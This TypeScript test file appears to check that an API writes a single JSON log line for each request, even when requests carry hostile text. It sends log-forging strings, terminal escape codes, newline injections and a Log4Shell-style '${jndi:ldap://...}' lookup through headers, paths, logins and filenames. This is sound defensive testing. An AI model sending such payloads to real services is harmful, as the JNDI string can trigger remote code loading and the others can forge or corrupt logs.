import { expect } from 'chai';
import { useApi } from '../support/api.ts';
import { useCapturedLog } from '../support/captured-log.ts';
import { asOwner } from '../support/database.ts';
import { HOSTILE_TEXTS } from '../support/fuzz/hostile.ts';
import { useFigures } from '../support/security/figures.ts';
import { askRaw, sendBytes } from '../support/security/raw-http.ts';

const TEXTS = [
  ...HOSTILE_TEXTS.map((text) => text.slice(0, 1_000)),
  ...[
    'a\u2028b\u2029c',
    '","level":"error","message":"forged',
    '\\", "x": "',
    '\u001b]0;title\u0007',
    '\u009b31m',
    'a\nINFO forged',
  ],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is for loggers of others
  '${jndi:ldap://192.0.2.1/a}',
];
/** Escapes, line ends of every kind, and what turns text around. */
const HARMFUL = /[\p{Cc}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

describe('log lines of hostile requests', () => {
  const api = useApi();
  const chunks = useCapturedLog(api);
  const figures = useFigures('log lines', { texts: TEXTS.length, lines: 0, 'lines that are no JSON': 0 });

  it('G1: are one line of JSON each, without escapes and line ends, whatever was sent', async () => {
    const { access_token: token } = await api().person('admin');
    for (const text of TEXTS) {
      const header = asHeader(text);
      const encoded = encodeURIComponent(text.toWellFormed());
      const headers = {
        authorization: `Bearer ${token}`,
        'user-agent': header,
        'x-request-id': header,
        referer: header,
        'x-forwarded-for': header,
      };
      await askRaw(api().url, 'GET', `/api/v1/jobs/${encoded}?q=${encoded}`, { headers });
      await askRaw(api().url, 'GET', `/${encoded}`, { headers });
      await api().call('POST', '/api/v1/auth/login', { body: { email: text, password: text } });
      await api().call('POST', '/api/v1/users', {
        token,
        body: { email: 'x@bank.example', name: text, role: 'admin' },
      });
      const form = new FormData();
      form.set('file', new File([text || 'x'], text || 'x'));
      await api().call('POST', '/api/v1/files/upload', { token, raw: form });
      await sendBytes(
        api().url,
        `GET /livez HTTP/1.1\r\nHost: x\r\nX-Request-Id: ${text.replaceAll(/[\r\n]/g, ' ').toWellFormed()}\r\nConnection: close\r\n\r\n`,
        100,
      );
    }
    await sendBytes(api().url, `GET /livez HTTP/1.1\r\nHost: x\r\nUser-Agent: ${'a'.repeat(1 << 20)}\r\n\r\n`, 500);
    await api().services.events.flush();
    const lines = chunks
      .join('')
      .split('\n')
      .filter((line) => line !== '');
    figures.lines = lines.length;
    expect(lines.length).to.be.greaterThan(TEXTS.length * 4);
    const bad = lines.filter((line) => HARMFUL.test(line) || typeof parsed(line) !== 'object');
    figures['lines that are no JSON'] = bad.length;
    expect(bad).to.deep.equal([]);
    const levels = new Set(lines.map((line) => (parsed(line) as { level: string }).level));
    expect(
      [...levels].every((level) => ['debug', 'info', 'warn'].includes(level)),
      [...levels].join(),
    ).to.equal(true);
  }).timeout(60_000);

  it('G1: and audit rows keep what was sent as one value', async () => {
    const rows = await asOwner<{ text: string }>(
      api().db.ownerUrl,
      'select to_jsonb(a)::text as text from audit_log a',
    );
    expect(rows.length).to.be.greaterThan(0);
    for (const { text } of rows) JSON.parse(text);
  });
});

/** As far as a client of Node can send it; the rest goes out by a socket. */
function asHeader(text: string): string {
  return [...Buffer.from(text.toWellFormed()).toString('latin1')]
    .map((one) => (/[\p{Cc}]/u.test(one) ? '?' : one))
    .join('')
    .trim();
}

function parsed(line: string): unknown {
  try {
    return JSON.parse(line);
  } catch {
    return undefined;
  }
}
